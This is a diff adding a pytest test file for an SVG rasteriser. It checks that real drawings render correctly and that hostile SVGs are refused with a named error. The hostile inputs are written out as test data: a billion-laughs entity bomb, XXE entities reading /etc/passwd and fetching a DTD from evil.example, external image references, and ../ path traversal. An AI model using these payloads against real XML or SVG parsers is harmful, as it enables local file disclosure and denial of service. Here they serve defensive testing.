@@ -1,0 +1,105 @@
+"""SVG rasterising: real drawings render; hostile documents are refused naming the problem."""
+
+from __future__ import annotations
+
+import base64
+import io
+import time
+
+import pytest
+from PIL import Image
+
+from mmsearch.errors import BadInput
+from mmsearch.preprocessing import load_image
+from mmsearch.svg import MAX_ELEMENTS, is_svg, rasterise
+
+NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+RED = f'<svg {NS} width="40" height="20"><rect width="40" height="20" fill="red"/></svg>'.encode()
+PNG_1PX = base64.b64encode(bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a5dd2d5c0000000049454e44ae426082")).decode()
+
+
+def _png(data: bytes) -> Image.Image:
+    return Image.open(io.BytesIO(data))
+
+
+def test_a_drawing_is_fitted_into_the_box_keeping_its_aspect():
+    img = _png(rasterise(RED, box=100))
+    assert img.size == (100, 50) and img.mode == "RGBA"
+    assert img.convert("RGB").getpixel((50, 25)) == (255, 0, 0)
+
+
+def test_load_image_reads_svg_bytes_like_any_image():
+    img = load_image(RED, "q")
+    assert img.mode == "RGB" and img.size[0] == 2 * img.size[1]
+
+
+def test_sniffing():
+    assert is_svg(RED) and is_svg(b"\xef\xbb\xbf<?xml version='1.0'?>\n<svg/>") and is_svg(b"<!-- x -->\n<svg>")
+    assert not is_svg(b"\x89PNG\r\n") and not is_svg(b"<html><body/></html>") and not is_svg(b"")
+
+
+def test_a_huge_declared_canvas_costs_what_a_small_one_does():
+    big = f'<svg {NS} width="100000" height="100000"><circle cx="50000" cy="50000" r="40000"/></svg>'.encode()
+    t0 = time.perf_counter()
+    img = _png(rasterise(big, box=64))
+    assert img.size == (64, 64) and time.perf_counter() - t0 < 2
+
+
+def test_inline_images_and_fragments_are_allowed():
+    doc = (f'<svg {NS} width="10" height="10"><defs><rect id="r" width="5" height="5"/></defs><use xlink:href="#r"/>'
+           f'<image href="data:image/png;base64,{PNG_1PX}" width="10" height="10"/></svg>').encode()
+    assert _png(rasterise(doc, box=10)).size == (10, 10)
+
+
+def test_simple_internal_entities_as_illustrator_writes_them_are_allowed():
+    doc = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
+           b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
+           b'<svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>')
+    assert _png(rasterise(doc, box=10)).size == (10, 10)
+
+
+LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+          b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>')
+XXE = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+       b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
+PARAM = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
+         b'<svg xmlns="http://www.w3.org/2000/svg"/>')
+
+
+@pytest.mark.parametrize("doc, match", [
+    (LAUGHS, "entity expansion refused"),
+    (XXE, "external or parameter entity"),
+    (PARAM, "external or parameter entity|malformed"),
+    (f'<svg {NS}><image xlink:href="/etc/passwd" width="9" height="9"/></svg>'.encode(), "external references are not followed"),
+    (f'<svg {NS}><image href="http://evil.example/x.png"/></svg>'.encode(), "external references"),
+    (f'<svg {NS}><use xlink:href="file:///etc/hosts#x"/></svg>'.encode(), "external references"),
+    (f'<svg {NS}><image href="beside.png"/></svg>'.encode(), "external references"),  # no trusted folder given
+    (b"<html><svg/></html>", "not an SVG document"),
+    (b"<svg><rect></svg>", "malformed SVG"),
+    (f"<svg {NS}>".encode() + b"<g/>" * (MAX_ELEMENTS + 1) + b"</svg>", "elements"),
+    (b"<svg>" + b" " * (5 * 1024 * 1024) + b"</svg>", "byte limit"),
+])
+def test_hostile_documents_are_refused_naming_the_problem(doc, match):
+    with pytest.raises(BadInput, match=match):
+        rasterise(doc, "upload.svg")
+
+
+def test_a_file_beside_a_trusted_svg_may_be_referenced(tmp_path):
+    doc = f'<svg {NS} width="10" height="10"><image href="beside.png" width="10" height="10"/></svg>'.encode()
+    (tmp_path / "beside.png").write_bytes(base64.b64decode(PNG_1PX))
+    assert _png(rasterise(doc, box=10, resources_dir=tmp_path)).size == (10, 10)
+    with pytest.raises(BadInput, match="external references"):
+        rasterise(doc.replace(b"beside.png", b"../beside.png"), box=10, resources_dir=tmp_path)
+
+
+def test_svg_upload_through_load_image_names_the_input():
+    with pytest.raises(BadInput, match="^query: .*entity"):
+        load_image(LAUGHS.replace(b"<?xml", b"<?xml"), "query")
+
+
+def test_point_units_render_at_96_dpi():
+    doc = f'<svg {NS} width="128pt" height="64pt"><rect width="10" height="10"/></svg>'.encode()  # many stamps use pt
+    w, h = _png(rasterise(doc, box=100)).size
+    assert w == 100 and abs(h - 50) <= 1
